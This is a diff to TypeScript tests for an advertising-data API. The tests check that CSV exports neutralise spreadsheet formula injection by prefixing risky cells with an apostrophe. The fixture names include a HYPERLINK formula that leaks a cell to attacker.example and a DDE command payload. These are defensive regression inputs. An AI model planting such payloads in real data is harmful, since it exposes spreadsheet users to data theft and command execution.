@@ -16,6 +16,29 @@ const AWKWARD = [
   },
 ];
 
+/**
+ * Names a spreadsheet would run as formulas (OWASP's CSV injection), each sending ads to a brand
+ * domain of their own, with a history and landing domains like any advertiser's.
+ */
+const FORMULA_NAMES = [
+  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1)',
+  '+49 Media',
+  '-2+3 Ads',
+  '\tTabbed Ads',
+  '\rReturned Ads',
+];
+const FORMULA_BRAND = 'formula-brand.com';
+const HOSTILE = FORMULA_NAMES.map((name, i) => ({
+  creative_id: `f${i}`,
+  advertiser_id: `AR88${i}`,
+  advertiser_name: name,
+  country: 'DE',
+  landing_url: `https://${FORMULA_BRAND}/f${i}`,
+  seen_on: '2026-11-02',
+}));
+
 /** An RFC 4180 reader, written apart from the service's writer: the records of `text`. */
 function readCsv(text: string): string[][] {
   const records: string[][] = [];
@@ -52,7 +75,7 @@ describe('exports: Accept: text/csv on the history, landing domains and brand-bi
   let api: TestApi;
   let key: string;
   beforeAll(async () => {
-    ({ api, key } = await createFixtureApi((sql) => ingestObservations(sql, AWKWARD, { today: NOW })));
+    ({ api, key } = await createFixtureApi((sql) => ingestObservations(sql, [...AWKWARD, ...HOSTILE], { today: NOW })));
   });
   afterAll(async () => {
     await api.close();
@@ -82,6 +105,47 @@ describe('exports: Accept: text/csv on the history, landing domains and brand-bi
     const csv = await api.request('/api/v1/brandbid?domain=acme-outdoor.com', { key, headers: CSV });
     expect(csv.text).toContain('\r\n"Quote ""Co"", Ltd\nBerlin",AR777,1,2026-11-01,2026-11-01,1,single_domain\r\n');
     expect(readCsv(csv.text).map((record) => record[0])).toContain(AWKWARD_NAME);
+  });
+
+  const FORMULA_RULE =
+    'a text cell that a spreadsheet would run as a formula starts with an apostrophe; numbers stay numbers';
+  it(FORMULA_RULE, async () => {
+    const path = `/api/v1/brandbid?domain=${FORMULA_BRAND}`;
+    const csv = await api.request(path, { key, headers: CSV });
+    expect(csv.status).toBe(200);
+    expect(csv.text).toContain('\r\n"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")",AR880,1,');
+    expect(csv.text).toContain("\r\n'=cmd|' /C calc'!A0,AR881,1,2026-11-02,2026-11-02,1,single_domain\r\n");
+    expect(csv.text).toContain("\r\n'@SUM(1),AR882,1,");
+    const [header, ...records] = readCsv(csv.text);
+    const byId = new Map(records.map((record) => [record[header.indexOf('advertiser_id')], record]));
+    for (const [i, name] of FORMULA_NAMES.entries()) {
+      const record = byId.get(`AR88${i}`)!;
+      expect(record[header.indexOf('advertiser')], name).toBe(`'${name}`);
+      expect(record[header.indexOf('creatives')], name).toBe('1');
+    }
+    // The JSON of the same report keeps every name exactly as stored.
+    const json = await api.request(path, { key });
+    const names = (json.body.advertisers as { advertiser: string }[]).map((row) => row.advertiser);
+    expect(names.sort()).toEqual([...FORMULA_NAMES].sort());
+  });
+
+  it('no CSV export of an advertiser with a formula name holds a cell that starts a formula', async () => {
+    const { key: funded } = await api.newKey(5_000);
+    const paths = FORMULA_NAMES.flatMap((name) => [
+      [`/api/v1/advertiser/history?name=${encodeURIComponent(name)}`, name],
+      [`/api/v1/advertiser/domains?name=${encodeURIComponent(name)}`, name],
+    ]);
+    for (const [path, name] of [...paths, [`/api/v1/brandbid?domain=${FORMULA_BRAND}`, null]]) {
+      const csv = await api.request(path!, { key: funded, headers: CSV });
+      expect([path, csv.status]).toEqual([path, 200]);
+      const cells = readCsv(csv.text).flat();
+      expect(cells.length, path!).toBeGreaterThan(3);
+      expect(
+        cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+        path!,
+      ).toEqual([]);
+      if (name !== null) expect((await api.request(path!, { key: funded })).body.advertiser, path!).toBe(name);
+    }
   });
 
   it('capped lists carry X-Total-Count and X-Truncated', async () => {
